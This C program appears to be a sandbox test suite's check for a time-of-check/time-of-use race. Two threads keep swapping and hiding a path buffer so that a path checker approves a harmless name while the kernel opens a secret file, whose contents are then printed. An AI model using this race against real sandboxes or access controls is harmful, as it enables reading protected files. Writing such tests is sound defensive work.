/* attack.c - opens files by a name that two threads change and hide all the time
 *
 * One thread writes a harmless path and the secret one into the same buffer in turn, the other makes its page unreadable
 * and readable again. If whoever looks at the name decided by it, the kernel would then read another one. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define HARMLESS "/usr/bin/env"
#define PAGE     4096

static volatile char *name;
static const char *secret;
static volatile int is_over;

static double seconds(void)
{
    struct timespec now;

    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void put(volatile char *to, const char *text)
{
    for (size_t i = 0; i <= strlen(text); i++)
        to[i] = text[i];
}

static void *change(void *unused)
{
    (void)unused;
    while (!is_over) {
        put(name, HARMLESS);
        put(name, secret);
    }
    return NULL;
}

/* A second one at the end of a page, the rest of which comes and goes. */
static void *hide(void *pages)
{
    while (!is_over) {
        (void)mprotect((char *)pages + PAGE, PAGE, PROT_NONE);
        (void)mprotect((char *)pages + PAGE, PAGE, PROT_READ | PROT_WRITE);
    }
    return NULL;
}

/* Whatever was opened: only the secret file begins so. */
static int try(const char *path)
{
    char bytes[256];
    int fd = open(path, O_RDONLY), reached = 0;
    ssize_t count = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));

    if (count > 7 && memcmp(bytes, "secret ", 7) == 0) {
        reached = 1;
        (void)!write(1, bytes, (size_t)count);
    }
    if (fd >= 0)
        (void)close(fd);
    return reached;
}

int main(int argc, char **argv)
{
    char *pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *crossing;
    double end = seconds() + 1.5;
    pthread_t threads[2];
    int reached = 0, rounds = 0;

    if (argc < 2 || strlen(argv[1]) > 1000 || pages == MAP_FAILED)
        return 77;
    secret = argv[1];
    name = pages;
    put(name, HARMLESS);
    crossing = pages + PAGE - strlen(secret) / 2;
    put(crossing, secret);
    if (pthread_create(&threads[0], NULL, change, NULL) != 0 || pthread_create(&threads[1], NULL, hide, pages) != 0)
        return 1;
    for (; seconds() < end && !reached; rounds++)
        reached = try((const char *)name) || try(crossing);
    is_over = 1;
    (void)pthread_join(threads[0], NULL);
    (void)pthread_join(threads[1], NULL);
    printf("%d rounds: %s\n", rounds, reached ? "reached" : "nothing");
    return reached ? 10 : 0;
}
